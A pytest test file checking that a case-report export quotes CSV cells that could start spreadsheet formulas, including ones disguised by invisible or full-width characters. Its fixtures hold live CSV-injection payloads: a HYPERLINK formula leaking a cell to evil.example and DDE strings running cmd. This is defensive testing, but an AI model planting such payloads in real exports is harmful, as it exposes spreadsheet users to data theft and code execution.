"""Text in a report export is never taken for a spreadsheet formula (CSV injection).

Every CSV cell of text that starts with = + - @ tab, carriage return or line feed gets a leading single quote (OWASP),
also when white space, invisible characters or a full-width form disguise that start; numbers stay as they are; the
XLSX writes text as string cells, whatever it starts with.
"""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.utils import translation

from cases.choices import CaseStatus
from cases.models import ReportFormat
from cases.reports.cells import csv_cell
from cases.reports.services import render_export
from tests.factories import case_in
from tests.reports.dataset import at, clock

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A2,"Open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        *[(text, "'" + text) for text in FORMULAS.values()],
        ("=", "'="),
        ("-", "'-"),
        ("-1e3", "'-1e3"),
        ("-5 ", "'-5 "),
        ("Unit", "Unit"),
        ("a=b", "a=b"),
        ("", ""),
        ("   ", "   "),
        ("Unit =1", "Unit =1"),
        ("\u200bUnit", "\u200bUnit"),
        ("＝", "'＝"),
        # Numbers stay numbers, as values or as the text the reports write for figures and changes.
        (-5, -5),
        (3, 3),
        (-2.5, -2.5),
        (Decimal("-2000.50"), Decimal("-2000.50")),
        ("-5", "-5"),
        ("+1", "+1"),
        ("-2999.50", "-2999.50"),
        ("+33.3%", "+33.3%"),
        ("-100.0%", "-100.0%"),
        ("2025-01-01 10:00", "2025-01-01 10:00"),
        (None, None),
    ],
)
def test_a_cell_that_could_start_a_formula_is_quoted(value, written):
    assert csv_cell(value) == written


# What spreadsheet programs skip or fold before they look for a formula: white space of any script, invisible
# format characters, full-width forms.
DISGUISED_FORMULAS = [
    " =1+1",
    '  =HYPERLINK("http://evil.example/")',
    "\u3000=1+1",  # ideographic space
    "\xa0=1+1",  # no-break space
    "\n=1+1",
    "\r\n=1+1",
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte order mark
    "\u200e\u2060+1+1",  # left-to-right mark, word joiner
    "＝1+1",  # full-width equals sign
    "＋1+cmd|' /C calc'!A0",  # full-width plus sign
    "－2+3",  # full-width hyphen-minus
    "＠SUM(1+1)",  # full-width commercial at
    "\u3000＝1+1",
    "﹦1+1",  # small equals sign
    " -5",
    "\nplain text after a line break",
]


@pytest.mark.parametrize("text", DISGUISED_FORMULAS)
def test_a_formula_behind_white_space_invisible_or_full_width_characters_is_quoted(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Unit", " Unit", "\u3000北山派出所", "\u200b灵隐", "１２３", " 5", "a＝b"])
def test_text_that_starts_with_anything_else_is_unchanged(text):
    assert csv_cell(text) == text


@pytest.fixture
def formula_units(world):
    """The county and one station named like formulas; a case in the station in 2025 and two in 2024, so the
    report has a negative change."""
    world.county.name, world.county.name_en = FORMULAS["hyperlink"], FORMULAS["at"]
    world.station.name, world.station.name_en = FORMULAS["minus"], FORMULAS["plus"]
    world.other_station.name, world.other_station.name_en = FORMULAS["tab"], FORMULAS["cr"]
    for unit in (world.county, world.station, world.other_station):
        unit.full_clean()
        unit.save()
    for moment in (at(2024, 3, 1), at(2024, 4, 1), at(2025, 3, 1)):
        with clock(moment):
            case_in(world, CaseStatus.INTAKE)
    return world


def render(unit, fmt: str, language: str) -> bytes:
    out = io.BytesIO()
    with translation.override(language):
        render_export(unit=unit, year=2025, fmt=fmt, out=out)
    return out.getvalue()


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_no_cell_starts_a_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or csv_cell(cell) == cell, (row, cell)


@pytest.mark.parametrize(
    ("language", "county", "station"),
    [("en", FORMULAS["at"], FORMULAS["plus"]), ("zh-hans", FORMULAS["hyperlink"], FORMULAS["minus"])],
    ids=["en", "zh-hans"],
)
def test_the_yearly_csv_quotes_formula_text_and_keeps_numbers(formula_units, language, county, station):
    rows = csv_rows(render(formula_units.county, ReportFormat.CSV, language))
    assert rows[1][1] == f"'{county} (330106)"
    station_rows = [row for row in rows if row and row[0] == f"'{station} (330106001)"]
    # Two cases in 2024, one in 2025: the change is a negative number, written as one.
    assert station_rows == [[f"'{station} (330106001)", "1", "2", "-1", "-50.0%"]]
    assert_no_cell_starts_a_formula(rows)


@pytest.mark.parametrize(
    ("language", "station"), [("en", FORMULAS["plus"]), ("zh-hans", FORMULAS["minus"])], ids=["en", "zh-hans"]
)
def test_the_per_case_csv_quotes_formula_text_and_keeps_numbers(formula_units, language, station):
    rows = csv_rows(render(formula_units.county, ReportFormat.DETAIL, language))
    assert len(rows) == 2  # the header and the one case of 2025
    _header, case = rows
    assert case[3] == "330106001"  # the unit code
    assert case[4] == f"'{station}"
    assert case[9:11] == ["1", "0"]  # officers involved, auxiliary officers: numbers as they are
    assert_no_cell_starts_a_formula(rows)


@pytest.mark.parametrize(
    ("language", "county", "station"),
    [("en", FORMULAS["at"], FORMULAS["plus"]), ("zh-hans", FORMULAS["hyperlink"], FORMULAS["minus"])],
    ids=["en", "zh-hans"],
)
def test_the_xlsx_writes_formula_text_as_string_cells(formula_units, language, county, station):
    workbook = openpyxl.load_workbook(io.BytesIO(render(formula_units.county, ReportFormat.XLSX, language)))
    summary = workbook.worksheets[0]
    assert (summary["B2"].data_type, summary["B2"].value) == ("s", f"{county} (330106)")
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    labels = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    cell = labels[f"{station} (330106001)"]
    assert cell.data_type == "s"
    # The figures of that row are numeric cells; the change is the number -1.
    figures = [c.value for c in cell.parent[cell.row][1:4]]
    assert figures == [1, 2, -1]
    formulas = [
        c.coordinate for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if c.data_type == "f"
    ]
    assert formulas == []
